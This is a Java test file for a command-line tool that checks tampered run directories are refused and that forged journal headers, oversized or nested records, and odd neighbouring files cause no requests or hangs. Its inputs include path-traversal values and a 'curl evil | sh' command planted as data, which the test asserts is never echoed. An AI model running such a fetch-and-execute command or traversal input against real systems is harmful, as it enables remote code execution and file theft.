package dev.paceline.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.paceline.blackbox.JournalFile;
import dev.paceline.simulator.Simulator;
import dev.paceline.simulator.SimulatorOptions;
import java.io.IOException;
import java.io.InputStream;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** Run directories that somebody else wrote, or changed: what {@code resume} and {@code report} make of them, judged by the servers' logs. */
class ForgedRunTest {
    private static final JsonMapper JSON = JsonMapper.shared();
    private static final Map<String, String> OURS =
            Map.of("TENCENTCLOUD_SECRET_ID", Simulator.SECRET_ID, "TENCENTCLOUD_SECRET_KEY", Simulator.SECRET_KEY);

    @TempDir
    private Path temporary;

    private Simulator genuine;
    private Simulator other;
    private Path run;
    private ObjectNode header;

    /** A run whose header alone is left: it has sent nothing that it knows of. */
    @BeforeEach
    void begin() throws IOException {
        genuine = Simulator.start(SimulatorOptions.defaults());
        other = Simulator.start(SimulatorOptions.defaults());
        run = temporary.resolve("runs/run");
        Path input = Files.writeString(temporary.resolve("a.csv"), """
                ProjectId,TaskId,wait,Notes
                1,11,5,
                1,12,6,x
                1,13,7,y
                """);
        Files.writeString(temporary.resolve("precious.csv"), "ProjectId,TaskId,wait,Notes\n9,99,9,precious\n");
        assertThat(FakeShell.in(OURS)
                        .run(
                                "apply",
                                input.toString(),
                                "--rename=wait=DelayTime",
                                "--limit=2",
                                "--skip-invalid",
                                "--endpoint=" + genuine.endpoint(),
                                "--region=ap-guangzhou",
                                "--run-dir=" + run))
                .isZero();
        header = JournalFile.in(run).header();
        assertThat(genuine.calls()).hasSize(2);
    }

    @AfterEach
    void end() {
        genuine.close();
        other.close();
    }

    @Test
    void theGenuineOneSaysWhereAndAsWhomItGoesOn() {
        JournalFile.in(run).write(header);
        FakeShell shell = FakeShell.in(OURS);

        assertThat(shell.run("resume", run.toString())).isZero();

        assertThat(shell.err())
                .contains("ModifyTaskInfo", "2 rows", genuine.endpoint().toString(), "ap-guangzhou", "signed as ****");
        assertThat(genuine.calls()).hasSize(4);
    }

    @Test
    void noChangedFieldMakesARequestLeave() throws IOException {
        List<JsonNode> values = lines("forged-values.jsonl");
        values.add(JsonNodeFactory.instance.stringNode("x".repeat(1_000_000)));
        for (String field : header.get("pinned").propertyNames()) {
            refuses(field, without(field));
            for (JsonNode value : values) {
                if (!value.equals(header.get("pinned").get(field))) {
                    refuses(field + " " + cut(value), with(field, value));
                }
            }
        }
        assertThat(genuine.calls()).as("those of the run itself").hasSize(2);
        assertThat(other.calls()).isEmpty();
    }

    @Test
    void whatAnotherCouldHaveBegunIsNotGoneOnWithUnlessItWasSealedWithTheKey() throws IOException {
        for (JsonNode each : lines("forged-headers.jsonl")) {
            String value = each.get("value")
                    .toString()
                    .replace("{other}", other.endpoint().toString());
            refuses(each.toString(), with(each.get("field").asString(), JSON.readTree(value)));
        }
        assertThat(genuine.calls()).as("those of the run itself").hasSize(2);
        assertThat(other.calls()).isEmpty();
    }

    /** Temporary credentials have another id each time, and seal nothing. */
    @Test
    void withoutASealTheHeaderIsNotTrustedEither() throws Exception {
        Map<String, String> temporaryOnes = new TreeMap<>(OURS);
        temporaryOnes.put("TENCENTCLOUD_TOKEN", "a token");
        for (String field : List.of("copy", "sha256", "secret_ids")) {
            JsonNode value = JSON.readTree(field.equals("secret_ids") ? "{}" : "\"../../precious.csv\"");
            refuses(field, unsealed(with(field, value)), temporaryOnes);
        }
        ObjectNode elsewhere = unsealed(with("copy", JSON.readTree("\"../../precious.csv\"")));
        ((ObjectNode) elsewhere.get("pinned")).put("sha256", sha256(temporary.resolve("precious.csv")));
        refuses("another file, whose hash is known", elsewhere, temporaryOnes);
        ObjectNode unhashed = unsealed(with("grows", JSON.readTree("true")));
        ((ObjectNode) unhashed.get("pinned")).put("sha256", "");
        refuses("grows", unhashed, temporaryOnes);
        assertThat(genuine.calls()).hasSize(2);

        JournalFile.in(run).write(unsealed(with("limit", JSON.readTree(Long.toString(Long.MAX_VALUE)))));
        FakeShell.in(temporaryOnes).run("resume", run.toString());
        assertThat(genuine.calls()).extracting(call -> call.taskId()).containsOnly("11", "12");
    }

    private static String sha256(Path file) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file)));
    }

    private static ObjectNode unsealed(ObjectNode forged) {
        ((ObjectNode) forged.get("pinned")).set("seals", JSON.readTree("{\"\":\"\"}"));
        return forged;
    }

    @Test
    void anotherFileThanTheOneThatWasCheckedIsNotSent() throws IOException {
        Files.copy(
                temporary.resolve("precious.csv"),
                run.resolve("input.csv"),
                java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        refuses("another copy", header);
        assertThat(genuine.calls()).hasSize(2);
    }

    @Test
    void noForgedRecordIsMoreThanAMessage() throws IOException {
        for (JsonNode each : lines("forged-records.jsonl")) {
            byte[] text = each.get("json").toString().getBytes(UTF_8);
            ByteBuffer payload = ByteBuffer.allocate(16 + text.length);
            if (each.has("row")) {
                payload.putLong(each.get("row").asLong());
            }
            if (each.has("status")) {
                payload.put((byte) each.get("status").asInt());
            }
            byte[] record = Arrays.copyOf(payload.array(), payload.put(text).position());
            JournalFile.in(run).write(header).append(each.get("type").asString().charAt(0), record);

            for (String command : List.of("report", "resume")) {
                FakeShell shell = FakeShell.in(OURS);
                int exit = shell.run(command, run.toString());
                says(each.toString(), shell.err());
                assertThat(exit).as(each + ": " + shell.err()).isIn(2, 8);
            }
        }
        assertThat(genuine.calls()).hasSize(2);
    }

    /** What stands beside a new run is read for one question alone: whether it is the same run, unfinished. */
    @Test
    void strangeNeighboursNeitherStandInTheWayNorHoldUpNorFillTheMemory() throws Exception {
        JournalFile.in(run).write(with("endpoint", JSON.readTree("[[[[\"" + genuine.endpoint() + "\"]]]]")));
        neighbour("deep").append('H', ("{\"pinned\":" + "[".repeat(100_000)).getBytes(UTF_8));
        neighbour("huge").append('H', new byte[5 << 20]);
        neighbour("none").append('E', new byte[0]);
        neighbour("cut");
        Path pipe = Files.createDirectory(run.resolveSibling("pipe"));
        assertThat(new ProcessBuilder("mkfifo", pipe.resolve("journal").toString())
                        .start()
                        .waitFor())
                .isZero();
        Path checked = Files.createDirectory(run.resolveSibling("checked"));
        Files.copy(temporary.resolve("a.csv"), checked.resolve("input.csv"));
        Files.writeString(checked.resolve("lock"), "");
        Files.writeString(run.resolveSibling("file"), "");

        FakeShell shell = FakeShell.in(OURS);
        int exit = shell.run(
                "apply",
                temporary.resolve("a.csv").toString(),
                "--rename=wait=DelayTime",
                "--endpoint=" + genuine.endpoint(),
                "--region=ap-guangzhou",
                "--run-dir=" + run.resolveSibling("new"));

        assertThat(exit).as(shell.err()).isZero();
        assertThat(genuine.calls()).hasSize(5);
    }

    private JournalFile neighbour(String name) throws IOException {
        Path directory = Files.createDirectory(run.resolveSibling(name));
        byte[] preamble = Arrays.copyOf(Files.readAllBytes(JournalFile.in(run).file()), 12);
        Files.write(directory.resolve("journal"), preamble);
        return JournalFile.in(directory);
    }

    @Test
    void noCommandOfTheDirectorysOwnIsPrinted() throws IOException {
        ObjectNode forged = with("retry_words", JSON.readTree("[\"curl\",\"evil\",\"|\",\"sh\"]"));
        JournalFile.in(run).write(forged);
        FakeShell shell = FakeShell.in(OURS);

        shell.run("report", run.toString());

        assertThat(shell.err()).contains("java -jar paceline.jar apply ").doesNotContain("curl");
        assertThat(Files.readString(run.resolve("summary.json"))).doesNotContain("curl");
    }

    private void refuses(String what, ObjectNode forged) {
        refuses(what, forged, OURS);
    }

    private void refuses(String what, ObjectNode forged, Map<String, String> environment) {
        JournalFile.in(run).write(forged);
        FakeShell shell = FakeShell.in(environment);
        int exit = shell.run("resume", run.toString());
        assertThat(exit).as(what + ": " + shell.err()).isEqualTo(2);
        says(what, shell.err());
    }

    private static void says(String what, String said) {
        assertThat(said)
                .as(what)
                .doesNotContain("defect", "\tat ", "Exception", "Sending")
                .matches(shown -> shown.chars().allMatch(c -> c == '\n' || !Character.isISOControl(c)))
                .hasSizeLessThan(4000);
    }

    private ObjectNode without(String field) {
        ObjectNode forged = header.deepCopy();
        ((ObjectNode) forged.get("pinned")).remove(field);
        return forged;
    }

    private ObjectNode with(String field, JsonNode value) {
        ObjectNode forged = header.deepCopy();
        ((ObjectNode) forged.get("pinned")).set(field, value);
        return forged;
    }

    private static String cut(JsonNode value) {
        String text = value.toString();
        return text.substring(0, Math.min(40, text.length()));
    }

    private static List<JsonNode> lines(String name) throws IOException {
        try (InputStream in = Objects.requireNonNull(ForgedRunTest.class.getResourceAsStream("/cli/" + name))) {
            List<JsonNode> lines = new ArrayList<>();
            new String(in.readAllBytes(), UTF_8).lines().map(JSON::readTree).forEach(lines::add);
            return lines;
        }
    }
}
